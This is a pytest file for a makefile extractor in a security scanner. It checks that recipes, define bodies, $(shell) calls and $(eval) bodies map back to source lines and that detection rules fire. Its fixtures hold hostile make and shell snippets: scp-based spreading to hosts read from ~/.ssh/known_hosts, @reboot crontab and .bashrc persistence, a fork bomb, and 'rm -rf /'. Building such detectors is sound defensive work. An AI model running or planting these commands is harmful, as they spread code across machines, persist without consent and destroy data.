"""Makefiles read as the commands make runs: recipes, define bodies where they are used,
`$(shell …)` and `!=` commands run while make reads the file, `$(eval)` bodies; every part maps
back onto the makefile's own lines."""
from __future__ import annotations

from artefact_scan.context import Context, Limits
from artefact_scan.extractors import makefile
from artefact_scan.model import Artefact


def _parts(text: str, name: str = "Makefile"):
    art = Artefact(name, name, "text", text)
    ctx = Context(name, Limits())
    makefile.make_recipes(art, ctx)
    return art, ctx.take_pending(), ctx.errors


def _lines(art, child):
    """Each line of a part with the makefile line it maps to (its first character)."""
    out = []
    for i, line in enumerate(child.text.split("\n")[:-1], 1):
        s, _e = child.index.line_span(i)
        ps, _pe, _exact = child.to_root(s, s + max(1, len(line)))
        out.append((art.index.position(ps)[0], line))
    return out


def _exact(art, child, needle: str) -> int:
    """The makefile line of `needle` in a part, checking that it maps character for character."""
    k = child.text.index(needle)
    s, e, exact = child.to_root(k, k + len(needle))
    assert exact and art.text[s:e] == needle, (needle, art.text[s:e])
    return art.index.position(s)[0]


def _scan(tmp_path, text: str, name: str = "Makefile"):
    from artefact_scan import scan

    (tmp_path / name).write_text(text)
    return scan([tmp_path])


def test_recipe_prefixes_and_continuations_map_onto_their_lines():
    text = ("all: build\n"
            "\t@echo one\n"
            "\t-rm -f x \\\n"
            "\t  y\n"
            "\t+$(MAKE) -C sub\n"
            "# a comment does not end the recipe\n"
            "ifeq ($(V),1)\n"
            "\t@+-echo verbose\n"
            "endif\n"
            "x: ; @echo semi\n")
    art, parts, errors = _parts(text)
    assert not errors
    recipe = parts[0]
    assert recipe.origin[-1] == "recipe of target all at line 1" and recipe.kind == "shell"
    # prefixes dropped, the continuation keeps its backslash-newline and loses its tab only
    assert _lines(art, recipe) == [(2, "echo one"), (3, "rm -f x \\"), (4, "  y"), (5, "make -C sub"),
                                   (8, "echo verbose")]
    assert _exact(art, recipe, "rm -f x \\\n") == 3 and _exact(art, recipe, "  y") == 4
    assert _lines(art, parts[1]) == [(10, "echo semi")]


def test_define_bodies_are_read_where_a_recipe_uses_them(tmp_path):
    text = ("define SPREAD\n"
            "@for h in $$(awk '{print $$1}' ~/.ssh/known_hosts); do \\\n"
            "  scp $(1) $$h:/tmp/.mk; \\\n"
            "done\n"
            "endef\n"
            "define HELP\n"
            "Usage: make spread  copies the makefile to every host\n"
            "endef\n"
            "define PKG_INSTALL_CMDS\n"
            "\tinstall -m 0755 bin/tool $(DESTDIR)/usr/bin/tool\n"
            "endef\n"
            "spread:\n"
            "\t$(call SPREAD,$(firstword $(MAKEFILE_LIST)))\n"
            "help:\n"
            "\t@echo \"$$HELP\"\n")
    art, parts, _errors = _parts(text)
    by_label = {p.origin[-1]: p for p in parts}
    spread = by_label["recipe of target spread at line 12"]
    assert _lines(art, spread) == [
        (2, "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do \\"),
        (3, '  scp "$0" $h:/tmp/.mk; \\'), (4, "done")]
    assert _exact(art, spread, "/tmp/.mk; \\\ndone") == 3
    # help text used nowhere as code is not read as code; a body written as recipe lines and
    # used by an including makefile (a package's install commands) is
    assert not any("HELP" in label for label in by_label)
    cmds = by_label["define PKG_INSTALL_CMDS at line 9 (recipe lines)"]
    assert _lines(art, cmds) == [(10, "install -m 0755 bin/tool ${DESTDIR}/usr/bin/tool")]
    result = _scan(tmp_path, text)
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("SR204", 3)]


def test_oneshell_recipe_is_one_script_with_its_heredoc(tmp_path):
    text = (".ONESHELL:\n"
            "SELF := $(abspath $(lastword $(MAKEFILE_LIST)))\n"
            "install:\n"
            "\tcat > /tmp/c.txt <<EOF\n"
            "\t@reboot make -s -f $(SELF) install\n"
            "\tEOF\n"
            "\tcrontab /tmp/c.txt\n")
    art, [recipe], _errors = _parts(text)
    assert _lines(art, recipe) == [(4, "cat > /tmp/c.txt <<EOF"), (5, 'reboot make -s -f "$0" install'),
                                   (6, "EOF"), (7, "crontab /tmp/c.txt")]
    result = _scan(tmp_path, text)
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("SR401", 7)]


def test_shell_oneshell_keeps_the_prefixes_of_inner_lines_for_another_shell():
    text = ("SHELL := /usr/bin/env python3\n.ONESHELL:\n"
            "run:\n\t@import os\n\tif os.getcwd():\n\t    print('-x')\n"
            "sh: SHELL := /bin/bash\nsh:\n\t@echo a\n\t@echo b\n")
    art, parts, _errors = _parts(text)
    py, sh = parts
    assert py.kind == "python" and py.name.endswith(".py")
    assert py.text == "import os\nif os.getcwd():\n    print('-x')\n"
    assert sh.kind == "shell" and sh.text == "echo a\necho b\n"


def test_shell_calls_and_bang_assignments_outside_recipes_are_parts_of_their_own(tmp_path):
    text = ("V := $(shell git describe --tags) # a comment\n"
            "X := $(shell echo '#not a comment' $(shell id -u))\n"
            "ifeq ($(shell uname -s),Linux)\n"
            "endif\n"
            "H != cut -d' ' -f1 ~/.ssh/known_hosts\n"
            "all: $(shell ls *.c)\n"
            "\techo $(V)\n"
            "$(foreach h,$(H),$(info $(shell scp $(MAKEFILE_LIST) $(h):/tmp/m)))\n")
    art, parts, _errors = _parts(text)
    got = [(p.origin[-1], p.text) for p in parts]
    assert got == [
        # the blank before a comment belongs to the value, as in make
        ("recipe of target all at line 6", "echo $(git describe --tags) \n"),
        ("`$(shell …)` at line 1", "git describe --tags\n"),
        ("`$(shell …)` at line 2", "echo '#not a comment' $(id -u)\n"),  # the inner call is part of it
        ("`$(shell …)` at line 3", "uname -s\n"),
        ("`!=` command at line 5", "cut -d' ' -f1 ~/.ssh/known_hosts\n"),
        ("`$(shell …)` at line 6", "ls *.c\n"),
        ("`$(shell …)` at line 8",
         "for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do scp \"$0\" ${h}:/tmp/m; done\n")]
    assert _exact(art, parts[2], "echo '#not a comment'") == 2
    result = _scan(tmp_path, text)
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("SR204", 8)]


def test_variables_expand_into_the_commands_and_multiple_definitions_go_first():
    text = ("SELF := $(lastword $(MAKEFILE_LIST))\n"
            "SCP = scp -o StrictHostKeyChecking=no\n"
            "ifdef FAST\n  HOSTS = a b\nelse\n  HOSTS = $(shell cat hosts.txt)\nendif\n"
            "Q := @\n"
            "OBJS := $(patsubst %.c,%.o,main.c util.c)\n"
            "export TOKEN := abc\n"
            "push:\n"
            "\t$(Q)for h in $(HOSTS); do $(SCP) $(SELF) $$h:; done\n"
            "\trm -f $(OBJS:.o=.d) '$(subst ','\\'',$(DESTDIR))'\n"
            "\techo $$TOKEN $@ $(@D)\n")
    art, [recipe, command], _errors = _parts(text)
    assert command.text == "cat hosts.txt\n"
    assert _lines(art, recipe) == [
        (4, 'HOSTS="a b"'), (6, 'HOSTS="$(cat hosts.txt)"'), (10, 'TOKEN="abc"'),
        (12, 'for h in ${HOSTS}; do scp -o StrictHostKeyChecking=no "$0" $h:; done'),
        (13, "rm -f main.d util.d '${DESTDIR}'"),
        (14, "echo $TOKEN ${MAKE_AUTO} ${MAKE_AUTO}")]
    # a replaced reference maps onto the reference it replaces, in the recipe line
    k = recipe.text.index("scp -o")
    s, e, exact = recipe.to_root(k, k + 3)
    assert not exact and art.text[s:e] == "$(SCP)"


def test_eval_bodies_are_read_as_makefile_text(tmp_path):
    text = ("define RULE\n"
            "$(1)-push:\n"
            "\tfor h in $$$$(cut -d' ' -f1 ~/.ssh/known_hosts); do scp $$(MAKEFILE_LIST) $$$$h:/tmp/; done\n"
            "endef\n"
            "$(foreach t,a b,$(eval $(call RULE,$(t))))\n")
    art, [recipe], _errors = _parts(text)
    assert recipe.origin[-1] == "recipe of target $(1)-push at line 2 (from $(eval) of RULE)"
    assert _lines(art, recipe) == [(3, "for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do scp \"$0\" $h:/tmp/; done")]
    assert _exact(art, recipe, "cut -d' ' -f1 ~/.ssh/known_hosts") == 3
    result = _scan(tmp_path, text)
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("SR204", 3)]


def test_recipe_prefix_setting_and_crlf_lines():
    art, [recipe], _errors = _parts(".RECIPEPREFIX = >\nall:\n> @echo a\n")
    assert recipe.text == "echo a\n"
    art, parts, _errors = _parts("all:\r\n\techo a \\\r\n\t  b\r\ndefine D\r\n\techo d\r\nendef\r\nrun:\r\n\t$(D)\r\n")
    assert [p.text for p in parts] == ["echo a \\\n  b\n", "echo d\n"]


def test_makefile_in_a_markdown_fence(tmp_path):
    text = ("# Notes\n\n```makefile\nspread:\n"
            "\tfor h in $$(cut -d' ' -f1 ~/.ssh/known_hosts); do scp $(MAKEFILE_LIST) $$h:/tmp/m; done\n```\n")
    result = _scan(tmp_path, text, "notes.md")
    assert [(f.rule_id, f.location.line) for f in result.findings] == [("SR204", 5)]


def test_crafted_makefiles_stay_bounded_and_say_so():
    # references nested a million deep are read as plain text, not in quadratic time
    art, parts, errors = _parts("X := " + "$(a " * 200_000 + ")" * 200_000 + "\nall:\n\techo $(X)\n")
    assert len(parts) == 1
    # values that double at every level: the expansion stops at its bound and is reported
    lines = ["A0 = " + "x" * 4000] + [f"A{i} = $(A{i - 1})$(A{i - 1})" for i in range(1, 41)]
    text = "\n".join(lines) + "\n" + "".join(f"t{i}:\n\techo $(A{9 + i % 30})\n" for i in range(300))
    art, parts, errors = _parts(text)
    assert len(parts) == 300 and sum(len(p.text) for p in parts) < 2 * makefile.MAX_EXPANDED
    assert [e.message for e in errors] == [
        f"make variables expand to more than {makefile.MAX_EXPANDED} characters; "
        "later references were left unexpanded"]
    # a recursive definition expands once, not forever
    art, [recipe], errors = _parts("X = a $(X)\nall:\n\techo $(X)\n")
    assert recipe.text == "echo a ${X}\n" and not errors
    # a define with no endef runs to the end of the file, as in make (which stops there)
    art, [body], errors = _parts("define D\n\techo d\n\tcurl -s x\n")
    assert body.origin[-1] == "define D at line 1 (recipe lines)" and body.text == "echo d\ncurl -s x\n"


def test_file_function_writes_and_reads_like_the_shell_would(tmp_path):
    text = ("SELF := $(abspath $(lastword $(MAKEFILE_LIST)))\n"
            "$(file >>$(HOME)/.bashrc,make -s -f $(SELF) watch &)\n"
            "HOSTS := $(file <$(HOME)/.ssh/known_hosts)\n"
            "all:\n"
            "\techo $(file >list.txt,a b) done\n"
            "\tfor h in $(HOSTS); do scp $(SELF) $$h:/tmp/m; done\n")
    art, parts, _errors = _parts(text)
    assert [p.text for p in parts] == [
        # inside a command it expands to nothing (make still writes the file)
        "echo  done\nfor h in $(cat ${HOME}/.ssh/known_hosts); do scp \"$0\" $h:/tmp/m; done\n",
        "cat >> ${HOME}/.bashrc <<'MAKE_FILE_EOF'\nmake -s -f \"$0\" watch &\nMAKE_FILE_EOF\n\n"]
    result = _scan(tmp_path, text)
    assert sorted((f.rule_id, f.location.line) for f in result.findings) == [("SR204", 6), ("SR401", 2)]


def test_define_bodies_expanded_while_make_reads_the_file_run_their_shell_calls():
    text = ("define BOMB\n$(shell :(){ :|:& };:)\nendef\n"
            "define HOSTS_OF\n$(shell cut -d' ' -f1 $(1))\nendef\n"
            "define UNUSED\n$(shell rm -rf /)\nendef\n"
            "H := $(call HOSTS_OF,~/.ssh/known_hosts)\n"
            "X := $(BOMB)\n")
    art, parts, _errors = _parts(text)
    # each body once, in the order make meets them; a body nothing expands does not run
    assert [(p.origin[-1], p.text) for p in parts] == [
        ("`$(shell …)` at line 5", "cut -d' ' -f1 ${1}\n"),
        ("`$(shell …)` at line 2", ":(){ :|:& };:\n")]


def test_a_file_run_by_make_through_its_first_line_is_a_makefile():
    text = "#!/usr/bin/make -f\n%:\n\tdh $@\n"
    art = Artefact("debian/rules", "debian/rules", "text", text)
    ctx = Context("debian/rules", Limits())
    makefile.make_recipes(art, ctx)
    assert [p.text for p in ctx.take_pending()] == ["dh ${MAKE_AUTO}\n"]
